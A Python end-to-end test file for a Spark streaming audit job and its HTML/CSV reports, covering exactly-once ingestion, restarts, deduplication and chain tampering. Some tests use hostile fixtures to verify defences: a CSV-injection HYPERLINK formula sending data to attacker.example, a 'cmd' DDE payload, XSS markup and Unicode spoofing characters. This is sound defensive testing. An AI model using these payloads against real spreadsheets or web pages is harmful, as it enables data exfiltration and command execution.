"""The streaming job and the reports, end to end: spool files written by the real
``SpoolSink``, the real Structured Streaming query, the Parquet table on disk."""

from __future__ import annotations

import argparse
import csv
import html
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from bench.audit_generate import generate
from gateway.audit import EventLine, SpoolSink
from spark_audit import job
from spark_audit.cli import add_audit_commands
from spark_audit.event import AuditEvent, ConfigChange
from spark_audit.report import Filters, build_report
from spark_audit.transforms import table_schema
from tests.e2e.test_gateway_process import kpg_audit_report
from tests.spark.support import (
    EXPECTED_TOTALS,
    event,
    refused_authentication,
    report_events,
    write_segment,
)

pytestmark = pytest.mark.e2e


@pytest.fixture
def dirs(tmp_path: Path) -> dict[str, Path]:
    paths = {name: tmp_path / name for name in ("spool", "table", "checkpoint", "report")}
    paths["spool"].mkdir()
    return paths


def read_table(spark: SparkSession, table: Path) -> DataFrame:
    return spark.read.schema(table_schema()).parquet(str(table))


def event_ids(spark: SparkSession, table: Path) -> list[str]:
    return sorted(row.event_id for row in read_table(spark, table).select("event_id").collect())


def ids(events: list[AuditEvent]) -> list[str]:
    return sorted(e.event_id for e in events)


def run_available_now(spark: SparkSession, dirs: dict[str, Path], **settings: Any) -> None:
    job.run_stream(
        spark,
        spool_dir=str(dirs["spool"]),
        table_dir=str(dirs["table"]),
        checkpoint_dir=str(dirs["checkpoint"]),
        available_now=True,
        **settings,
    )


def test_a_running_stream_appends_completed_segments_only_once_each(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    first = [event(time="2026-11-21T23:59:00.000Z") for _ in range(4)]
    second = [event(time="2026-11-22T00:01:00.000Z") for _ in range(3)]
    still_open = [event() for _ in range(2)]
    write_segment(dirs["spool"], first[:2])
    write_segment(dirs["spool"], first[2:])
    query = job.start_stream(
        spark,
        spool_dir=str(dirs["spool"]),
        table_dir=str(dirs["table"]),
        checkpoint_dir=str(dirs["checkpoint"]),
        processing_time="100 milliseconds",
    )
    try:
        writer = SpoolSink(dirs["spool"])  # the gateway, mid-segment
        writer.open()
        writer.write([EventLine.of(e) for e in still_open])
        query.processAllAvailable()
        assert event_ids(spark, dirs["table"]) == ids(first)

        writer.close()  # the open segment completes and becomes visible
        query.processAllAvailable()
        assert event_ids(spark, dirs["table"]) == ids(first + still_open)

        write_segment(dirs["spool"], second)
        query.processAllAvailable()
    finally:
        query.stop()

    assert event_ids(spark, dirs["table"]) == ids(first + second + still_open)
    partitions = sorted(p.name for p in dirs["table"].glob("date=*"))
    assert partitions == ["date=2026-11-21", "date=2026-11-22"]


def _parquet_type(spark: SparkSession, file: Path, column: str) -> str:
    """The Parquet type of ``column`` in ``file``, as its footer has it."""
    jvm: Any = spark.sparkContext._jvm
    conf = spark.sparkContext._jsc.hadoopConfiguration()  # type: ignore[union-attr]
    source = jvm.org.apache.parquet.hadoop.util.HadoopInputFile.fromPath(
        jvm.org.apache.hadoop.fs.Path(str(file)), conf
    )
    reader = jvm.org.apache.parquet.hadoop.ParquetFileReader.open(source)
    try:
        return str(reader.getFooter().getFileMetaData().getSchema().getType(column).toString())
    finally:
        reader.close()


def test_a_report_of_a_time_range_reads_only_the_dates_it_covers(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    """--since/--until read the date partitions of their range, not every file of the table
    (a day's report of a year's table decoded the whole year to drop most of it), and the
    stream writes ``time`` as INT64 microseconds, whose row-group statistics Parquet can
    skip by (Spark's default INT96 has none). A day's files made unreadable here would fail
    any report that opens them."""
    first = [event(time="2026-11-21T12:00:00.000Z") for _ in range(3)]
    second = [event(time="2026-11-22T12:00:00.000Z") for _ in range(2)]
    write_segment(dirs["spool"], first + second)
    run_available_now(spark, dirs)
    files = sorted(dirs["table"].glob("date=*/*.parquet"))
    assert files and all(
        _parquet_type(spark, file, "time").endswith("int64 time (TIMESTAMP(MICROS,true))")
        for file in files
    )
    for file in (dirs["table"] / "date=2026-11-21").glob("*.parquet"):
        file.write_bytes(b"not parquet")

    summary = build_report(
        spark, str(dirs["table"]), dirs["report"], filters=Filters(since="2026-11-22T00:00:00")
    )

    assert summary["totals"]["audit_events"] == len(second)
    with pytest.raises(Exception, match="not a Parquet file|PARQUET"):
        build_report(spark, str(dirs["table"]), dirs["report"], filters=Filters(until="2026-11-22"))


def test_a_restart_neither_loses_nor_duplicates_events(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    before = [event() for _ in range(5)]
    after = [event(time="2026-11-23T08:00:00.000Z") for _ in range(3)]
    seen_segment = write_segment(dirs["spool"], before)
    run_available_now(spark, dirs)
    assert event_ids(spark, dirs["table"]) == ids(before)

    write_segment(dirs["spool"], after)
    # An already-seen segment showing up again under a new name (say, restored from backup).
    shutil.copy(seen_segment, dirs["spool"] / "events-20261123T090000000Z-00000099.jsonl")
    run_available_now(spark, dirs)

    assert event_ids(spark, dirs["table"]) == ids(before + after)


@pytest.mark.parametrize(
    "lost",
    [
        pytest.param(("commits",), id="sink-committed"),
        pytest.param(("commits", "_spark_metadata"), id="files-written-not-committed"),
    ],
)
def test_a_batch_rerun_after_a_crash_is_not_written_twice(
    spark: SparkSession, dirs: dict[str, Path], lost: tuple[str, ...]
) -> None:
    events = [event() for _ in range(6)]
    write_segment(dirs["spool"], events[:3])
    write_segment(dirs["spool"], events[3:])
    run_available_now(spark, dirs)
    # The crash: batch 0's files are in the table, but the checkpoint never recorded the
    # batch as done (and, in the second case, neither did the table's log).
    logs = {
        "commits": dirs["checkpoint"] / "commits",
        "_spark_metadata": dirs["table"] / "_spark_metadata",
    }
    for name in lost:
        for entry in ("0", ".0.crc"):
            (logs[name] / entry).unlink()
    files_before = set(dirs["table"].glob("date=*/*.parquet"))

    run_available_now(spark, dirs)

    if "_spark_metadata" in lost:  # Spark wrote the batch again, beside its orphaned files
        assert set(dirs["table"].glob("date=*/*.parquet")) > files_before
    assert event_ids(spark, dirs["table"]) == ids(events)


@pytest.mark.parametrize("max_files_per_trigger", [None, 1], ids=["one-batch", "batch-per-file"])
def test_an_event_id_in_two_segments_is_counted_once(
    spark: SparkSession, dirs: dict[str, Path], max_files_per_trigger: int | None
) -> None:
    twice = event()
    others = [event() for _ in range(3)]
    write_segment(dirs["spool"], [twice, others[0]])
    write_segment(dirs["spool"], [others[1], twice, others[2]])

    run_available_now(spark, dirs, max_files_per_trigger=max_files_per_trigger)

    assert event_ids(spark, dirs["table"]) == ids([twice, *others])


def test_kafka_source_without_the_connector_says_how_to_add_it(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    with pytest.raises(job.KafkaConnectorMissingError, match="spark-sql-kafka-0-10_2.1"):
        job.start_stream(
            spark,
            source="kafka",
            bootstrap_servers="localhost:9092",
            topic="kpg-audit",
            table_dir=str(dirs["table"]),
            checkpoint_dir=str(dirs["checkpoint"]),
        )


def test_spark_submit_entry_point_runs_the_stream(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    events = [event() for _ in range(3)]
    write_segment(dirs["spool"], events)

    status = job.main(
        [
            "--spool",
            str(dirs["spool"]),
            "--table",
            str(dirs["table"]),
            "--checkpoint",
            str(dirs["checkpoint"]),
            "--available-now",
        ]
    )

    assert status == 0
    assert event_ids(spark, dirs["table"]) == ids(events)
    assert not spark.sparkContext._jsc.sc().isStopped()  # main() leaves a caller's session be


def test_spark_submit_entry_point_refuses_a_missing_spool_with_status_2(
    spark: SparkSession, dirs: dict[str, Path], caplog: pytest.LogCaptureFixture
) -> None:
    """As ``kpg audit stream`` (and the README) have it: a mistyped ``--spool`` is status 2
    and a line saying so; under spark-submit it was a traceback and status 1."""
    missing = dirs["spool"] / "missing"

    status = job.main(
        ["--spool", str(missing), "--table", str(dirs["table"]), "--checkpoint"]
        + [str(dirs["checkpoint"]), "--available-now"]
    )

    assert status == 2
    assert f"spool directory {missing} does not exist" in caplog.text
    assert not dirs["table"].exists()


# --- reports ---------------------------------------------------------------------------------


@pytest.fixture
def report_spool(dirs: dict[str, Path]) -> Path:
    """The report events in two segments, one event duplicated across them."""
    events = report_events()
    write_segment(dirs["spool"], events[:6])
    write_segment(dirs["spool"], events[5:])
    return dirs["spool"]


def test_report_numbers_equal_the_table_and_appear_in_every_output(
    spark: SparkSession, dirs: dict[str, Path], report_spool: Path
) -> None:
    run_available_now(spark, dirs)
    table = read_table(spark, dirs["table"])
    by_verdict = {
        row.verdict: row.decisions
        for row in table.groupBy("verdict").agg(F.sum("event_count").alias("decisions")).collect()
    }

    summary = build_report(spark, str(dirs["table"]), dirs["report"])

    on_disk = json.loads((dirs["report"] / "summary.json").read_text())
    assert on_disk["totals"] == summary["totals"]
    totals = on_disk["totals"]
    assert {key: totals[key] for key in EXPECTED_TOTALS} == EXPECTED_TOTALS
    assert totals["audit_events"] == table.count()
    assert totals["decisions"] == sum(by_verdict.values())
    assert {v: totals[v] for v in ("allowed", "denied", "would_deny")} == by_verdict

    reports = on_disk["reports"]
    assert reports["denied_by_policy"] == [
        {"policy": "min-replication-factor", "denied_requests": 3},
        {"policy": "no-delete", "denied_requests": 2},
    ]
    # v1-style events without request ids: each decision is a request.
    assert totals["requests"] == totals["decisions"]
    hourly = reports["requests_per_hour"]
    assert sum(r["denied"] + r["would_deny"] + r["allowed"] for r in hourly) == totals["requests"]
    with (dirs["report"] / "denied_by_topic.csv").open(newline="") as file:
        assert [(r["topic"], int(r["denied_requests"])) for r in csv.DictReader(file)] == [
            (r["topic"], r["denied_requests"]) for r in reports["denied_by_topic"]
        ]
    event_sets = {
        f"events-{name}.csv" for name in ("denied", "would_deny", "dry_runs", "config_changes")
    }
    assert {p.name for p in dirs["report"].glob("*.csv")} == {
        f"{name}.csv" for name in reports
    } | event_sets
    with (dirs["report"] / "events-denied.csv").open(newline="") as file:
        denied_events = list(csv.DictReader(file))
    assert len(denied_events) == totals["denied"]
    # Every event set is drawn from the notable events the report reads once: each must still
    # hold all of its events, counted here on the table itself.
    dry_run = F.col("validate_only")
    for name, condition in (
        ("would_deny", F.col("verdict") == "would_deny"),
        ("dry_runs", dry_run),
        ("config_changes", F.col("config_changes").isNotNull()),
    ):
        with (dirs["report"] / f"events-{name}.csv").open(newline="") as file:
            assert len(list(csv.DictReader(file))) == table.where(condition).count(), name
    assert table.where(dry_run).count() > 0

    page = (dirs["report"] / "index.html").read_text()
    assert page.count("<svg") >= 6 and "<script" not in page
    assert f'<div class="value">{totals["requests"]}</div>' in page
    assert f'<div class="value">{totals["requests_denied"]}</div>' in page
    assert '<td>min-replication-factor</td><td class="num">3</td>' in page
    assert '<a href="events-denied.csv">' in page
    # The one warning: the fixture writes its events unchained, as no gateway does.
    (warning,) = summary["warnings"]
    assert "11 events of schema version 2 or later are in no chain" in warning
    assert page.count("Warning") == 1


def test_a_report_from_the_spool_equals_the_report_from_the_table(
    spark: SparkSession, dirs: dict[str, Path], report_spool: Path
) -> None:
    run_available_now(spark, dirs)

    from_table = build_report(spark, str(dirs["table"]), dirs["report"] / "table")
    from_spool = build_report(spark, str(report_spool), dirs["report"] / "spool")

    assert from_spool["totals"] == from_table["totals"]
    assert from_spool["reports"] == from_table["reports"]


def test_kpg_audit_report_command(
    spark: SparkSession,
    dirs: dict[str, Path],
    report_spool: Path,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    parser = argparse.ArgumentParser(prog="kpg")
    add_audit_commands(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(
        ["audit", "report", "--input", str(report_spool), "--out", str(dirs["report"])]
    )

    assert args.func(args) == 0
    captured = capsys.readouterr()
    assert "15 requests (5 denied, 3 allowed with a dry-run objection)" in captured.out
    # The spool holds one event twice (the fixture's two segments overlap).
    assert "warning: 1 event ids occur more than once (1 extra rows)" in captured.err
    assert (
        "Warning: 1 event ids occur more than once" in (dirs["report"] / "index.html").read_text()
    )

    missing = parser.parse_args(
        ["audit", "report", "--input", str(dirs["spool"] / "nope"), "--out", str(dirs["report"])]
    )
    assert missing.func(missing) == 2
    assert "does not exist" in caplog.text

    # A directory that is neither a spool nor the table: no events, and a warning saying so.
    dirs["table"].mkdir()
    empty = parser.parse_args(
        ["audit", "report", "--input", str(dirs["table"]), "--out", str(dirs["report"])]
    )
    assert empty.func(empty) == 0
    assert f"warning: no audit events in {dirs['table']}" in capsys.readouterr().err

    # Spark reads a time it cannot parse as null, which would filter every event out.
    with pytest.raises(SystemExit) as refused:
        parser.parse_args(["audit", "report", "--input", "x", "--out", "y", "--since", "monday"])
    assert refused.value.code == 2
    assert "argument --since: 'monday' is not a time" in capsys.readouterr().err


def test_report_flags_gaps_and_breaks_in_the_chains(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    generate(dirs["spool"], 300, workers=2, events_per_segment=50, seed=7)
    run_available_now(spark, dirs)
    intact = build_report(spark, str(dirs["table"]), dirs["report"] / "intact")
    assert [r["status"] for r in intact["reports"]["chains"]] == ["intact", "intact"]
    assert sum(r["events"] for r in intact["reports"]["chains"]) == 300
    assert intact["warnings"] == []

    # Tamper with worker-0's spool: edit one line's message, delete another line.
    segment = sorted((dirs["spool"] / "worker-0").glob("events-*.jsonl"))[1]
    lines = segment.read_text().splitlines()
    edited = json.loads(lines[10])
    edited["message"] = "nothing to see"
    lines[10] = json.dumps(edited, separators=(",", ":"))
    del lines[20]
    segment.write_text("\n".join(lines) + "\n")
    # And worker-1's first segment restored from a backup under a new name: 50 lines twice.
    copied = sorted((dirs["spool"] / "worker-1").glob("events-*.jsonl"))[0]
    shutil.copy(copied, dirs["spool"] / "events-20991231T000000000Z-00000001.jsonl")
    tampered = build_report(spark, str(dirs["spool"]), dirs["report"] / "tampered")

    chains = {r["gateway_instance"]: r for r in tampered["reports"]["chains"]}
    broken = chains["kpg-bench-0"]
    assert (broken["status"], broken["gaps"], broken["breaks"]) == ("BROKEN", 1, 1)
    copied_chain = chains["kpg-bench-1"]
    assert (copied_chain["status"], copied_chain["duplicates"]) == ("BROKEN", 50)
    assert (copied_chain["gaps"], copied_chain["breaks"]) == (0, 0)
    assert any("audit chains are not intact" in w for w in tampered["warnings"])
    assert "50 event ids occur more than once (50 extra rows)" in tampered["warnings"][0]
    assert tampered["totals"]["audit_events"] == 300 - 1  # each copy counted once


def test_a_table_without_the_sink_log_is_refused(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    """A table the earlier job wrote: the file sink would hide every row already there."""
    write_segment(dirs["spool"], [event()])
    old_partition = dirs["table"] / "date=2026-11-21"
    old_partition.mkdir(parents=True)
    spark.createDataFrame([("x",)], "event_id STRING").write.parquet(str(old_partition / "x"))

    with pytest.raises(ValueError, match="earlier version of the audit job"):
        run_available_now(spark, dirs)


def test_a_spool_directory_that_does_not_exist_is_refused(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    """A mistyped --spool would otherwise stream nothing and exit 0."""
    dirs["spool"] = dirs["spool"] / "nope"
    with pytest.raises(ValueError, match="nope does not exist: give --spool"):
        run_available_now(spark, dirs)


def test_each_batch_logs_its_progress(
    spark: SparkSession, dirs: dict[str, Path], caplog: pytest.LogCaptureFixture
) -> None:
    twice = event()
    write_segment(dirs["spool"], [twice, event(), event()])
    write_segment(dirs["spool"], [twice])
    caplog.set_level("INFO", logger="spark_audit.job")

    run_available_now(spark, dirs, max_files_per_trigger=1)

    batches = [r.getMessage() for r in caplog.records if r.getMessage().startswith("audit batch")]
    assert batches[0].startswith("audit batch 0: 3 lines read, 0 malformed, 0 duplicate, 3 rows")
    assert batches[1].startswith("audit batch 1: 1 lines read, 0 malformed, 1 duplicate, 0 rows")
    assert len(list(dirs["table"].glob("date=*/*.parquet"))) == 1  # one file for the date


FORMULA_CLIENT = '=HYPERLINK("http://attacker.example/?"&A2,"details")'
FORMULA_USER = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_report_csv_files_hold_client_text_a_spreadsheet_cannot_run(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    """Client ids, claimed user names and config values are the clients' text: in every CSV
    file a cell a spreadsheet would run as a formula starts with an apostrophe (CSV
    injection), numbers stay numbers, and summary.json keeps the values as recorded."""
    change = ConfigChange(name="retention.ms", before="-1", after="+1+cmd")
    write_segment(
        dirs["spool"],
        [
            event(request_id="a", client_id=FORMULA_CLIENT, resource_name="orders"),
            refused_authentication(FORMULA_USER, request_id="b", client_id="-2+3"),
            event(
                request_id="c",
                api="IncrementalAlterConfigs",
                action="alter_config",
                resource_name="orders",
                config_changes=(change,),
            ),
        ],
    )

    summary = build_report(spark, str(dirs["spool"]), dirs["report"])

    def cells(name: str) -> set[str]:
        with (dirs["report"] / name).open(newline="") as file:
            return {cell for row in csv.reader(file) for cell in row}

    denied_events = cells("events-denied.csv")
    assert "'" + FORMULA_CLIENT in denied_events and FORMULA_CLIENT not in denied_events
    assert "'" + FORMULA_USER in denied_events and FORMULA_USER not in denied_events
    assert "'-2+3" in denied_events and "-2+3" not in denied_events
    assert "'" + FORMULA_CLIENT in cells("denied_by_client_id.csv")
    assert "'" + FORMULA_CLIENT in cells("denied_requests.csv")
    changes = cells("config_changes.csv")
    assert "-1" in changes and "'+1+cmd" in changes and "+1+cmd" not in changes
    by_client = {row["client_id"] for row in summary["reports"]["denied_by_client_id"]}
    assert FORMULA_CLIENT in by_client


SPACED_FORMULA = " " + FORMULA_CLIENT
"""Not a formula as it is: a spreadsheet reads a cell starting with a space as text."""
SPACED_ID = " billing-app \n"


def test_report_csv_files_keep_leading_and_trailing_white_space(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    """Spark's CSV writer trims white space around values by default, after the cells were
    made safe: a client id of a space and ``=HYPERLINK(...)`` reached events-denied.csv and
    denied_requests.csv as the formula itself, and every id or name was written without the
    spaces, tabs and newlines the client sent. The files now hold the values as recorded."""
    change = ConfigChange(name="retention.ms", before=" 1", after="\n=1+1")
    write_segment(
        dirs["spool"],
        [
            event(request_id="a", client_id=SPACED_FORMULA, resource_name="orders"),
            event(request_id="b", client_id=SPACED_ID, resource_name="orders"),
            event(
                request_id="c",
                api="IncrementalAlterConfigs",
                action="alter_config",
                resource_name="orders",
                config_changes=(change,),
            ),
        ],
    )

    build_report(spark, str(dirs["spool"]), dirs["report"])

    def cells(name: str) -> set[str]:
        with (dirs["report"] / name).open(newline="") as file:
            return {cell for row in csv.reader(file) for cell in row}

    for name in ("events-denied.csv", "denied_requests.csv", "denied_by_client_id.csv"):
        written = cells(name)
        assert FORMULA_CLIENT not in written, name
        assert SPACED_FORMULA in written and SPACED_ID in written, name
    changes = cells("config_changes.csv")
    assert " 1" in changes and "\n=1+1" in changes


MARKUP = '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">'
"""Markup a client sends as a client id, a user name, a topic or config name or value."""


def test_report_page_shows_every_client_text_as_text(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    """Every client-chosen text the page shows (client ids in tables and chart labels and
    titles, claimed user names, principals, resource names, rules' messages, config names and
    values before and after, dry-run and would-deny rows; messages are in the CSV files only) is
    HTML-escaped, and the page's
    links name only the report's own files. (This held already; nothing else checked it.)"""
    change = ConfigChange(name="k" + MARKUP, before="b" + MARKUP, after="a" + MARKUP)
    write_segment(
        dirs["spool"],
        [
            event(
                request_id="a",
                client_id="c" + MARKUP,
                principal="User:p" + MARKUP,
                resource_name="t" + MARKUP,
                message="m" + MARKUP,
            ),
            refused_authentication("u" + MARKUP, request_id="b", client_id="javascript:x()"),
            event(
                request_id="c",
                api="IncrementalAlterConfigs",
                action="alter_config",
                resource_type="group",
                resource_name="g" + MARKUP,
                config_changes=(change,),
            ),
            event(
                request_id="d",
                verdict="would_deny",
                mode="dry-run",
                error_code=None,
                client_id="w" + MARKUP,
            ),
            event(request_id="e", validate_only=True, client_id="v" + MARKUP),
        ],
    )

    summary = build_report(spark, str(dirs["spool"]), dirs["report"])

    page = (dirs["report"] / "index.html").read_text()
    assert "<img" not in page and '<a href="javascript' not in page
    escaped = html.escape(MARKUP)
    missing = [
        prefix
        for prefix in ("c", "User:p", "t", "u", "k", "b", "a", "g", "w", "v")
        if html.escape(prefix) + escaped not in page
    ]
    assert not missing, missing
    assert f"<title>{html.escape('User:p')}{escaped} / {html.escape('c')}{escaped}" in page
    links = set(re.findall(r'href="([^"]*)"', page))
    assert links and all(re.fullmatch(r"[a-z_-]+\.csv", link) for link in links), links
    on_disk = json.loads((dirs["report"] / "summary.json").read_text())
    assert on_disk["reports"] == json.loads(json.dumps(summary["reports"]))


def test_report_page_shows_invisible_and_reordering_characters(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    """A right-to-left override made a claimed user name ``\\u202eecila`` show as ``alice``
    in the refused authentications, and a zero-width space made a client id
    ``terraform\\u200b`` show as the operators' own ``terraform`` in the tables and the
    offenders chart. The page writes such characters as escapes; summary.json keeps them."""
    reversed_user, hidden_client = "\u202eecila", "terraform\u200b"
    write_segment(
        dirs["spool"],
        [
            refused_authentication(reversed_user, request_id="a"),
            event(request_id="b", client_id=hidden_client, resource_name="orders"),
        ],
    )

    summary = build_report(spark, str(dirs["spool"]), dirs["report"])

    page = (dirs["report"] / "index.html").read_text()
    assert "\u202e" not in page and "\u200b" not in page
    assert "<td>\\u202eecila</td>" in page
    assert "<td>terraform\\u200b</td>" in page
    assert "<title>User:alice / terraform\\u200b</title>" in page
    users = {row["user"] for row in summary["reports"]["refused_authentications"]}
    assert reversed_user in users


def test_report_page_shows_the_start_of_a_long_value(
    spark: SparkSession, dirs: dict[str, Path]
) -> None:
    """Claimed user names may be 512 KB (Kafka's cap before authentication), group ids and
    config values longer: the page showed each whole, in tables and chart titles, so 200 of
    them made a page of 100 MB. The page shows a value's first 1,000 characters and its
    length; the CSV files keep it whole."""
    users = [letter * 100_000 for letter in "uvw"]
    write_segment(
        dirs["spool"],
        [
            refused_authentication(user, request_id=f"r{index}", client_id=user)
            for index, user in enumerate(users)
        ],
    )

    build_report(spark, str(dirs["spool"]), dirs["report"])

    page = (dirs["report"] / "index.html").read_text()
    assert len(page) < 200_000, f"a page of {len(page):,} characters"
    assert f"{'u' * 1000}… (100,000 characters; the CSV file has them all)" in page
    with (dirs["report"] / "refused_authentications.csv").open(newline="") as file:
        assert {row["user"] for row in csv.DictReader(file)} == set(users)


def test_kpg_audit_report_of_a_workers_spool_logs_no_stack_trace(tmp_path: Path) -> None:
    """`kpg audit report --input var/audit`, as the example config suggests, on the spool of
    `kpg run --workers 2`: a report, and nothing on stderr that reads as a failure (Spark
    logged a FileNotFoundException for the segments' glob on every such report)."""
    spool = tmp_path / "audit"
    for worker in ("worker-0", "worker-1"):
        (spool / worker).mkdir(parents=True)
        write_segment(spool / worker, [event()])
    out = tmp_path / "report"
    result = kpg_audit_report(spool, out)
    assert result.returncode == 0, result.stderr[-3000:]
    assert "2 requests (2 denied" in result.stdout, result.stdout
    assert "Exception" not in result.stderr, result.stderr[-3000:]


def test_lines_of_no_schema_version_and_events_outside_any_chain_are_said(
    spark: SparkSession, dirs: dict[str, Path], caplog: pytest.LogCaptureFixture
) -> None:
    """A line with an event id but a verdict no version has was dropped unsaid: the stream's
    log counted it a duplicate, the report from the spool left it out without a word. An
    event of version 2 or later without a chain (which no gateway writes) was counted with
    no warning: the chains cannot show whether it was inserted."""
    generate(dirs["spool"], 20, workers=1, events_per_segment=50, seed=3)
    odd = json.loads(event(verdict="allowed").to_json_line())
    odd["verdict"] = "quarantined"
    unchained = event(verdict="allowed").to_json_line()
    (dirs["spool"] / "events-20991231T000000000Z-00000001.jsonl").write_text(
        json.dumps(odd, separators=(",", ":")) + "\n" + unchained
    )
    caplog.set_level("INFO", logger="spark_audit.job")

    run_available_now(spark, dirs)
    summary = build_report(spark, str(dirs["spool"]), dirs["report"])

    batches = [r.getMessage() for r in caplog.records if r.getMessage().startswith("audit batch")]
    assert "22 lines read, 1 malformed, 0 duplicate, 21 rows" in batches[0]
    assert any("1 lines of the spool are not audit events" in w for w in summary["warnings"])
    assert any(
        "1 events of schema version 2 or later are in no chain" in w for w in summary["warnings"]
    )
    assert summary["totals"]["audit_events"] == 21
